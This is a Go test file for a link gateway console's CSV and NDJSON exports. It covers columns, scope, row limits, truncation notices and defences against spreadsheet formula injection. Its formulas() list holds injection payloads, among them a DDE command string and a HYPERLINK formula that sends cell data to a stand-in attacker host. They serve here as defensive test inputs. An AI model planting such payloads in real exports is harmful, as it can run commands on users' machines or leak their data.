package console

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/labstack/echo/v4"

	"keyhole/gateway"
	"keyhole/gateway/api"
	"keyhole/gateway/convert"
)

// parseCSV reads a CSV, and returns its records.
func parseCSV(t *testing.T, text string) [][]string {
	t.Helper()
	if strings.Count(text, "\n") != strings.Count(text, "\r\n") {
		t.Errorf("a line does not end with CRLF: %q", text)
	}
	records, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("read the CSV: %v", err)
	}
	return records
}

// The list of links is exported with the filters of the page: as CSV with named columns, and
// as lines with the JSON of the API.
func TestExportLinks(t *testing.T) {
	t.Parallel()
	b := newBench(t, nil)
	link := b.issueExport(t, "a/q3.csv", func(r *gateway.IssueRequest) {
		r.Labels, r.Note, r.MaxClicks = map[string]string{"team": "7", "a": "b"}, "for, \"you\"", new(int64(3))
	}).Link
	b.issueExport(t, "b/q4.csv", nil)
	c := b.signedIn(t, opsKey)
	list := c.get("/console/links?prefix=a/")
	if !strings.Contains(words(list.page), "at most 10,000 rows") {
		t.Error("the list does not state the limit of an export")
	}
	a := c.get(list.link("CSV"))
	if a.status != http.StatusOK || a.header.Get("Content-Type") != "text/csv; charset=utf-8; header=present" ||
		!regexp.MustCompile(`^attachment; filename="keyhole-links-\d{8}T\d{6}Z\.csv"$`).MatchString(
			a.header.Get("Content-Disposition")) || a.header.Get("Cache-Control") != "no-store" {
		t.Fatalf("%d %v", a.status, a.header)
	}
	records := parseCSV(t, a.text)
	if len(records) != 2 {
		t.Fatalf("got %q", records)
	}
	row := map[string]string{}
	for i, name := range records[0] {
		row[name] = records[1][i]
	}
	for name, want := range map[string]string{
		"id": link.ID.String(), "state": "active", "bucket": "exports", "key": "a/q3.csv", "size": "1234567",
		"created_by": "ops", "clicks": "0", "max_clicks": "3", "note": `for, "you"`, "labels": "a=b; team=7",
		"created_at": link.CreatedAt.UTC().Format(time.RFC3339Nano), "last_used_at": "", "sensitive": "",
	} {
		if row[name] != want {
			t.Errorf("%s is %q, want %q", name, row[name], want)
		}
	}
	a = c.get(list.link("NDJSON"))
	var got api.Link
	err := json.Unmarshal([]byte(a.text), &got)
	if err != nil || a.header.Get("Content-Type") != "application/x-ndjson" {
		t.Fatalf("%v: %v %s", err, a.header, a.text)
	}
	reader := gateway.Actor{Can: []gateway.Action{gateway.ActionRead}, Objects: []gateway.Pattern{"*"}}
	page, err := b.service.Show(t.Context(), &reader, link.ID)
	if err != nil {
		t.Fatal(err)
	}
	want, err := json.Marshal(convert.Link(&page))
	if err != nil || a.text != string(want)+"\n" {
		t.Errorf("got %s, want %s", a.text, want)
	}
}

// An export hides ended links as the page does, and shows only what is in the scope.
func TestExportScope(t *testing.T) {
	t.Parallel()
	b := newBench(t, nil)
	b.issueExport(t, "secret/q4.csv", nil)
	ended := b.issueExport(t, "team/old.csv", nil).Link
	b.issueExport(t, "team/q3.csv", nil)
	c := b.signedIn(t, scopedKey)
	c.post("/console/links/"+ended.ID.String()+"/revoke", map[string][]string{"confirm": {"1"}})
	for path, want := range map[string]int{
		"/console/links.csv": 1, "/console/links.csv?state=active,revoked": 2, "/console/audit.csv": 3,
		"/console/links.csv?state=revoked": 1,
	} {
		a := c.get(path)
		if records := parseCSV(t, a.text); len(records)-1 != want || strings.Contains(a.text, "secret") {
			t.Errorf("%s: got %q", path, records)
		}
	}
	if a := c.get("/console/links.csv?state=gone"); a.status != http.StatusUnprocessableEntity {
		t.Errorf("a wrong filter: %d", a.status)
	}
	if a := b.visitor(t).get("/console/links.csv"); a.status != http.StatusSeeOther {
		t.Errorf("without a session: %d", a.status)
	}
	if a := c.do(http.MethodHead, "/console/links.csv", nil); a.status != http.StatusOK || a.text != "" {
		t.Errorf("HEAD: %d %q", a.status, a.text)
	}
}

// sendRows sends an export of n rows in pages of 500. The read of the page failing fails; -1:
// none.
func sendRows(t *testing.T, format string, n, failing int) string {
	t.Helper()
	b := newBench(t, nil)
	w := httptest.NewRecorder()
	ctx := echo.New().NewContext(httptest.NewRequestWithContext(t.Context(), http.MethodGet, "/", nil), w)
	err := send(b.console, ctx, export[api.Event]{
		name: "keyhole-audit", format: format, rows: writerOf(format, eventColumns()),
		read: func(_ context.Context, cursor string) (exportPage[api.Event], error) {
			at := len(cursor)
			if at == failing {
				return exportPage[api.Event]{}, &gateway.Error{Code: gateway.CodeUnavailable, Message: "Redis is unavailable"}
			}
			left := n - 500*at
			page := exportPage[api.Event]{rows: make([]api.Event, min(left, 500))}
			if left > 500 {
				page.next = cursor + "x"
			}
			return page, nil
		},
	})
	if err != nil {
		t.Fatalf("send: %v", err)
	}
	return w.Body.String()
}

// An export has at most 10,000 rows, and the last line says if some are missing.
func TestExportLimit(t *testing.T) {
	t.Parallel()
	if records := parseCSV(t, sendRows(t, formatCSV, exportLimit, -1)); len(records) != exportLimit+1 ||
		strings.HasPrefix(records[exportLimit][0], "#") {
		t.Errorf("a whole export has %d records", len(records))
	}
	records := parseCSV(t, sendRows(t, formatCSV, exportLimit+1, -1))
	if want := "# incomplete after 10000 rows: an export has at most 10000 rows; narrow the filters"; len(records) !=
		exportLimit+2 || records[exportLimit+1][0] != want {
		t.Errorf("a cut export has %d records and ends with %q", len(records), records[len(records)-1])
	}
	lines := strings.Split(strings.TrimSuffix(sendRows(t, formatNDJSON, exportLimit+1, -1), "\n"), "\n")
	if len(lines) != exportLimit+1 || !strings.HasPrefix(lines[exportLimit], `{"reason":"an export has at most`) {
		t.Errorf("a cut export has %d lines and ends with %s", len(lines), lines[len(lines)-1])
	}
}

// An export that stops says so in its last line.
func TestExportStops(t *testing.T) {
	t.Parallel()
	records := parseCSV(t, sendRows(t, formatCSV, 2000, 2))
	const want = "# incomplete after 1000 rows: Redis is unavailable"
	if got := records[len(records)-1][0]; len(records) != 1002 || got != want {
		t.Errorf("%d records, the last is %q", len(records), got)
	}
	text := sendRows(t, formatNDJSON, 2000, 1)
	if !strings.HasSuffix(text, `{"reason":"Redis is unavailable","rows":500,"truncated":true}`+"\n") {
		t.Errorf("the export ends with %q", text[max(0, len(text)-100):])
	}
	for want, err := range map[string]error{
		"the time of one request is over; narrow the filters": fmt.Errorf("read: %w", context.DeadlineExceeded),
		"the service has made a mistake":                      errors.New("secret-canary"),
	} {
		if got := reasonOfStop(err); got != want {
			t.Errorf("%v: got %q", err, got)
		}
	}
}

// formulas are texts that a spreadsheet would calculate.
func formulas() []string {
	return []string{
		"=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "  +1",
		"\u00a0=1", "\u3000=1", "\ufeff=1", "\u200b=1", "\x00=1", `"=1`, `'=1`, `""=1`, `" =1`, "\u201c=1", "\u00ab=1",
		"`=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "\u22121", "\ufb291",
		"=HYPERLINK(\"https://evil.example/?\"&A1)", "=1,2", "=1\n=2", "a;=1", "a; =1", `a;"=1`,
		"a\t=1", "a\n=1", "a\r\n@x", "=", "-", "+49 30 1234", "-report.pdf", "\tplain", "\rplain", "\nplain",
	}
}

// calculates reports whether a spreadsheet may take a cell for a formula: its first visible
// character, without quotes, decides, in each part that some spreadsheet takes for a cell.
func calculates(cell string) bool {
	for _, part := range regexp.MustCompile("[;\t\r\n]").Split(cell, -1) {
		if regexp.MustCompile(`^[\s\p{Z}\p{C}"` + "`" + `\p{Pi}\p{Pf}]*[=+\-@＝＋－＠−﬩]`).MatchString(part) {
			return true
		}
	}
	return strings.HasPrefix(cell, "\t") || strings.HasPrefix(cell, "\r") || strings.HasPrefix(cell, "\n")
}

// No cell is a formula, whatever keys, names, notes, labels, reasons and actors contain, and
// the text can be read back.
func TestCSVFormulas(t *testing.T) {
	t.Parallel()
	links, events := csvWriter[api.Link]{linkColumns()}, csvWriter[api.Event]{eventColumns()}
	for _, text := range formulas() {
		link := api.Link{
			Key: text, Filename: text, Note: text, Labels: map[string]string{text: text}, CreatedBy: text, RevokedBy: text,
			RevokeReason: text, Object: api.Object{ContentType: text, ETag: text, VersionID: text},
		}
		event := api.Event{Key: text, Actor: text, Reason: text, Address: text}
		for name, encode := range map[string]func() ([]byte, error){
			"link":  func() ([]byte, error) { return links.row(&link) },
			"event": func() ([]byte, error) { return events.row(&event) },
		} {
			line, err := encode()
			if err != nil {
				t.Fatal(err)
			}
			records, err := csv.NewReader(strings.NewReader(string(line))).ReadAll()
			if err != nil || len(records) != 1 {
				t.Fatalf("%s with %q: %v %q", name, text, err, records)
			}
			for _, cell := range records[0] {
				if calculates(cell) {
					t.Errorf("%s with %q: the cell %q is a formula", name, text, cell)
				}
			}
		}
		if got := strings.ReplaceAll(safeCell(text), "'", ""); got != strings.ReplaceAll(text, "'", "") {
			t.Errorf("%q became %q", text, got)
		}
	}
}

// A harmless text stays as it is.
func TestCSVHarmless(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"", "a", "a=b", "a+b", "a@b.example", "2026-11-25T08:00:00Z", "q3 - final.pdf", `"e"`, "it's", "a; b",
		"a=b; c=d", "日本語", "#1", "a,b", "1-2",
	} {
		if got := safeCell(text); got != text {
			t.Errorf("%q became %q", text, got)
		}
	}
	for text, want := range map[string]string{
		"a,b": `"a,b"` + "\r\n", `a"b`: `"a""b"` + "\r\n", "a\r\nb": "\"a\r\nb\"\r\n", " a": "\" a\"\r\n", "ab": "ab\r\n",
	} {
		if got := string(csvLine([]string{text})); got != want {
			t.Errorf("%q: got %q, want %q", text, got, want)
		}
	}
}
